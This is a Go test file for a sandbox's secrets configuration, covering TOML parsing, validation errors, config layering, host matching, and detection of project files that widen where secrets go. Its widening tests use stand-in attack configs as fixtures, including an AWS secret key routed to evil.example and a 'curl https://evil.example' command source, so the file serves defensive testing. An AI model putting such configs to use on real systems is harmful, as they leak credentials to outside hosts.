package secrets

import (
	"errors"
	"strings"
	"testing"
	"time"
)

const example = `backend = "bubblewrap"   # other keys are config's business

[secrets.OPENAI_API_KEY]
hosts = ["api.openai.com"]
command = ["pass", "show", "openai"]
timeout = "45s"

[secrets.deploy]
variable = "DEPLOY_TOKEN"
hosts = ["*.deploy.example.com", "127.0.0.1:8443"]
file = "/run/agenix/deploy"
bodies = true
prefix = "dp_"

[secrets.ANTHROPIC_API_KEY]
env = "MY_ANTHROPIC_KEY"
`

func TestParse(t *testing.T) {
	cfg, err := Parse("/home/u/.config/claude-sandbox/config.toml", []byte(example))
	if err != nil {
		t.Fatal(err)
	}
	if len(cfg.Secrets) != 3 {
		t.Fatalf("got %d secrets: %+v", len(cfg.Secrets), cfg.Secrets)
	}
	anth, openai, deploy := cfg.Secrets[0], cfg.Secrets[1], cfg.Secrets[2]
	if openai.Name != "OPENAI_API_KEY" || openai.variable() != "OPENAI_API_KEY" || openai.Source.Kind != FromCommand ||
		strings.Join(openai.Source.Command, " ") != "pass show openai" || openai.Source.Timeout != 45*time.Second ||
		strings.Join(openai.HostTexts(), ",") != "api.openai.com" || openai.Bodies || openai.Line != 3 {
		t.Errorf("OPENAI_API_KEY: %+v", openai)
	}
	if deploy.variable() != "DEPLOY_TOKEN" || deploy.Source.Kind != FromFile || deploy.Source.File != "/run/agenix/deploy" ||
		!deploy.Bodies || deploy.Prefix != "dp_" || len(deploy.Hosts) != 2 || deploy.Line != 8 {
		t.Errorf("deploy: %+v", deploy)
	}
	// A built-in's table may set only what it changes.
	if anth.Source.Kind != FromEnv || anth.Source.Env != "MY_ANTHROPIC_KEY" || anth.Hosts != nil {
		t.Errorf("ANTHROPIC_API_KEY: %+v", anth)
	}
	if empty, err := Parse("/x.toml", []byte(`network = false`)); err != nil || len(empty.Secrets) != 0 {
		t.Errorf("a file without secrets: %+v, %v", empty, err)
	}
}

func TestParseErrors(t *testing.T) {
	for _, tc := range []struct {
		name, toml string
		key, msg   string
		line       int
	}{
		{"unknown key", "[secrets.X]\nhosts = [\"a.example\"]\nenv = \"X\"\ncolour = \"red\"\n", "secrets.X.colour", `unknown key "colour"`, 4},
		{"two sources", "[secrets.X]\nhosts = [\"a.example\"]\nenv = \"X\"\nfile = \"/run/x\"\n", "secrets.X.file", "one source", 4},
		{"empty hosts", "[secrets.X]\nhosts = []\nenv = \"X\"\n", "secrets.X.hosts", "empty", 2},
		{"a URL", "[secrets.X]\nhosts = [\"https://a.example/v1\"]\nenv = \"X\"\n", "secrets.X.hosts", "not a URL", 2},
		{"inner wildcard", "[secrets.X]\nhosts = [\"api.*.example\"]\nenv = \"X\"\n", "secrets.X.hosts", `leading "*."`, 2},
		{"bad port", "[secrets.X]\nhosts = [\"a.example:0\"]\nenv = \"X\"\n", "secrets.X.hosts", "port", 2},
		{"hosts not a list", "[secrets.X]\nhosts = \"a.example\"\nenv = \"X\"\n", "secrets.X.hosts", "takes a list of strings", 2},
		{"host not a string", "[secrets.X]\nhosts = [443]\nenv = \"X\"\n", "secrets.X.hosts", "item 1 is a number", 2},
		{"bodies not a bool", "[secrets.X]\nhosts = [\"a.example\"]\nenv = \"X\"\nbodies = \"yes\"\n", "secrets.X.bodies", "true or false", 4},
		{"bad variable", "[secrets.X]\nvariable = \"MY-VAR\"\nhosts = [\"a.example\"]\nenv = \"X\"\n", "secrets.X.variable", "not an environment variable name", 2},
		{"bad env", "[secrets.X]\nhosts = [\"a.example\"]\nenv = \"$X\"\n", "secrets.X.env", "not an environment variable name", 3},
		{"relative command", "[secrets.X]\nhosts = [\"a.example\"]\ncommand = [\"./get-secret\"]\n", "secrets.X.command", "relative path", 3},
		{"empty command", "[secrets.X]\nhosts = [\"a.example\"]\ncommand = []\n", "secrets.X.command", "empty", 3},
		{"relative file", "[secrets.X]\nhosts = [\"a.example\"]\nfile = \"secrets/x\"\n", "secrets.X.file", "not an absolute path", 3},
		{"bad timeout", "[secrets.X]\nhosts = [\"a.example\"]\ncommand = [\"pass\"]\ntimeout = \"1h\"\n", "secrets.X.timeout", "duration from 1s", 4},
		{"timeout without a command", "[secrets.X]\nhosts = [\"a.example\"]\nenv = \"X\"\ntimeout = \"5s\"\n", "secrets.X.timeout", "only a command", 4},
		{"bad prefix", "[secrets.X]\nhosts = [\"a.example\"]\nenv = \"X\"\nprefix = \"a b\"\n", "secrets.X.prefix", "printable ASCII", 4},
		{"not a table", "secrets = 3\n", "secrets", "table of secrets", 1},
		{"a value in secrets", "[secrets]\nX = \"token\"\n", "secrets.X", "is a table", 0},
		{"one variable twice", "[secrets.A]\nvariable = \"T\"\nhosts = [\"a.example\"]\nenv = \"A\"\n[secrets.B]\nvariable = \"T\"\nhosts = [\"b.example\"]\nenv = \"B\"\n", "secrets.B", "fills T, as A", 5},
		{"bad TOML", "[secrets.X\n", "secrets", "", 1},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Parse("/p/claude-sandbox.toml", []byte(tc.toml))
			var ce *ConfigError
			if !errors.As(err, &ce) {
				t.Fatalf("got %v, want a ConfigError", err)
			}
			if ce.Key != tc.key || !strings.Contains(ce.Msg, tc.msg) || ce.Line != tc.line {
				t.Errorf("got key %q line %d msg %q, want key %q line %d msg containing %q", ce.Key, ce.Line, ce.Msg, tc.key, tc.line, tc.msg)
			}
			if !strings.HasPrefix(ce.Error(), "/p/claude-sandbox.toml") || ce.Hint() == "" {
				t.Errorf("error %q lacks the file, or no hint", ce.Error())
			}
		})
	}
}

func TestIncompleteSecrets(t *testing.T) {
	for _, tc := range []struct{ name, toml, msg string }{
		{"no source", "[secrets.X]\nhosts = [\"a.example\"]\n", "has no source"},
		{"no hosts", "[secrets.X]\nenv = \"X\"\n", "has no hosts"},
		{"name needs variable", "[secrets.\"open ai\"]\nhosts = [\"a.example\"]\nenv = \"X\"\n", "set variable"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg, err := Parse("/p/claude-sandbox.toml", []byte(tc.toml))
			if err != nil {
				t.Fatalf("a table that sets only some keys must parse: %v", err)
			}
			_, err = Effective(false, cfg)
			var ce *ConfigError
			if !errors.As(err, &ce) || !strings.Contains(ce.Msg, tc.msg) || ce.Line != 1 || ce.Path != "/p/claude-sandbox.toml" {
				t.Errorf("got %v, want a ConfigError at line 1 saying %q", err, tc.msg)
			}
		})
	}
	// A project may narrow a user's secret by naming only its hosts.
	user := mustParse(t, "[secrets.X]\nhosts = [\"a.example\", \"b.example\"]\nenv = \"X\"\n")
	project := mustParse(t, "[secrets.X]\nhosts = [\"a.example\"]\n")
	eff, err := Effective(false, user, project)
	if err != nil || byName(eff)["X"].Source.Env != "X" || len(byName(eff)["X"].Hosts) != 1 {
		t.Errorf("layered: %+v, %v", eff, err)
	}
}

func mustParse(t *testing.T, content string) *Config {
	t.Helper()
	cfg, err := Parse("/f.toml", []byte(content))
	if err != nil {
		t.Fatal(err)
	}
	return cfg
}

func byName(bs []Binding) map[string]Binding {
	m := map[string]Binding{}
	for _, b := range bs {
		m[b.Name] = b
	}
	return m
}

func TestEffective(t *testing.T) {
	plain, err := Effective(false)
	if err != nil || len(plain) != 1 || plain[0].Name != "ANTHROPIC_API_KEY" || plain[0].HostTexts()[0] != "api.anthropic.com" || !plain[0].BuiltIn {
		t.Fatalf("built-ins without --gh-token: %+v, %v", plain, err)
	}
	gh, _ := Effective(true)
	m := byName(gh)
	for _, n := range []string{"GH_TOKEN", "GITHUB_TOKEN"} {
		b, ok := m[n]
		if !ok || b.Source.Env != n || !b.MatchesHost("github.com", 443) || !b.MatchesHost("api.github.com", 443) ||
			!b.MatchesHost("uploads.github.com", 443) || b.MatchesHost("github.com.evil.example", 443) || b.MatchesHost("github.com", 80) {
			t.Errorf("%s with --gh-token: %+v", n, b)
		}
	}

	user := mustParse(t, `
[secrets.ANTHROPIC_API_KEY]
command = ["pass", "show", "anthropic"]
[secrets.GH_TOKEN]
command = ["gh", "auth", "token"]
`)
	project := mustParse(t, `
[secrets.ANTHROPIC_API_KEY]
variable = "CLAUDE_KEY"
`)
	eff, err := Effective(false, user, project)
	if err != nil {
		t.Fatal(err)
	}
	m = byName(eff)
	a := m["ANTHROPIC_API_KEY"]
	if a.Source.Kind != FromCommand || a.HostTexts()[0] != "api.anthropic.com" || a.variable() != "CLAUDE_KEY" {
		t.Errorf("layered ANTHROPIC_API_KEY: %+v", a)
	}
	g, ok := m["GH_TOKEN"]
	if !ok || g.Source.Kind != FromCommand || !g.MatchesHost("api.github.com", 443) {
		t.Errorf("a GH_TOKEN table turns it on with GitHub's hosts: %+v", g)
	}
	if _, ok := m["GITHUB_TOKEN"]; ok {
		t.Error("GITHUB_TOKEN is on without --gh-token or a table")
	}
	clash := mustParse(t, "[secrets.mine]\nvariable = \"ANTHROPIC_API_KEY\"\nhosts = [\"x.example\"]\nenv = \"MINE\"\n")
	if _, err := Effective(false, clash); err == nil || !strings.Contains(err.Error(), "fills ANTHROPIC_API_KEY") {
		t.Errorf("two secrets for one variable: %v", err)
	}
}

func TestWidenings(t *testing.T) {
	base, err := Effective(true, mustParse(t, `
[secrets.OPENAI_API_KEY]
hosts = ["api.openai.com", "*.openai.example"]
env = "OPENAI_API_KEY"
`))
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, project string
		want          []string // substrings, one per widening
	}{
		{"nothing", "", nil},
		{"narrowing", `
[secrets.OPENAI_API_KEY]
hosts = ["api.openai.com"]
variable = "OAI"
bodies = false
[secrets.GH_TOKEN]
hosts = ["api.github.com"]
`, nil},
		{"a new secret", "[secrets.AWS]\nhosts = [\"evil.example\"]\nenv = \"AWS_SECRET_ACCESS_KEY\"\n",
			[]string{"adds a secret read from env AWS_SECRET_ACCESS_KEY and sent to evil.example"}},
		{"another host", "[secrets.GH_TOKEN]\nhosts = [\"github.com\", \"gist.github.com\", \"evil.example\"]\n",
			[]string{"sends it to evil.example as well"}},
		{"a host below a wildcard is covered", "[secrets.OPENAI_API_KEY]\nhosts = [\"a.openai.example\", \"*.b.openai.example\"]\n", nil},
		{"another port", "[secrets.OPENAI_API_KEY]\nhosts = [\"api.openai.com:8443\"]\n", []string{"sends it to api.openai.com:8443"}},
		{"a command", "[secrets.OPENAI_API_KEY]\ncommand = [\"curl\", \"https://evil.example\"]\n",
			[]string{"reads it from command curl https://evil.example instead of env OPENAI_API_KEY"}},
		{"bodies", "[secrets.ANTHROPIC_API_KEY]\nbodies = true\n", []string{"request bodies"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ws := Widenings(mustParse(t, tc.project), base)
			if len(ws) != len(tc.want) {
				t.Fatalf("widenings %v, want %d", ws, len(tc.want))
			}
			for i, w := range ws {
				if !strings.Contains(w.Why, tc.want[i]) {
					t.Errorf("widening %q, want %q", w.Why, tc.want[i])
				}
			}
		})
	}
	// Without --gh-token, a project's GitHub token table is a new secret.
	noGH, _ := Effective(false)
	ws := Widenings(mustParse(t, "[secrets.GH_TOKEN]\nhosts = [\"api.github.com\"]\n"), noGH)
	if len(ws) != 1 || !strings.Contains(ws[0].Why, "adds a secret read from env GH_TOKEN") || ws[0].Line != 1 {
		t.Errorf("GH_TOKEN from a project without --gh-token: %v", ws)
	}
	if Widenings(nil, base) != nil {
		t.Error("no project file widens")
	}
}

func TestHostPatterns(t *testing.T) {
	for _, tc := range []struct {
		pattern string
		host    string
		port    int
		want    bool
	}{
		{"api.openai.com", "api.openai.com", 443, true},
		{"api.openai.com", "API.OpenAI.com.", 443, true},
		{"api.openai.com", "api.openai.com", 80, false},
		{"api.openai.com", "x.api.openai.com", 443, false},
		{"*.github.com", "api.github.com", 443, true},
		{"*.github.com", "github.com", 443, false},
		{"*.github.com", "evilgithub.com", 443, false},
		{"localhost:8443", "localhost", 8443, true},
		{"127.0.0.1:8443", "127.0.0.1", 8443, true},
		{"127.0.0.1:8443", "127.0.0.2", 8443, false},
		{"[::1]:8443", "::1", 8443, true},
		{"[::1]:8443", "[::1]", 8443, true},
		{"::1", "::1", 443, true},
	} {
		p, err := ParseHost(tc.pattern)
		if err != nil {
			t.Errorf("%q: %v", tc.pattern, err)
			continue
		}
		if got := p.Matches(tc.host, tc.port); got != tc.want {
			t.Errorf("%q matches %s:%d = %v, want %v", tc.pattern, tc.host, tc.port, got, tc.want)
		}
	}
	// A wildcard over a public suffix parses here; a launch refuses it
	// (launch.CheckRules asks the supervisor, which links the list).
	if p, err := ParseHost("*.co.uk"); err != nil {
		t.Errorf("*.co.uk: %v", err)
	} else if d, w := p.WildcardDomain(); d != "co.uk" || !w {
		t.Errorf("*.co.uk: wildcard domain %q %v", d, w)
	}
	for _, bad := range []string{"", "*", "a..b", "-a.example", "exa mple.com", "ex\u00e4mple.com", "a.example:", "a.example:99999", "[::1", "fe80::1%eth0"} {
		if _, err := ParseHost(bad); err == nil {
			t.Errorf("%q parsed", bad)
		}
	}
}
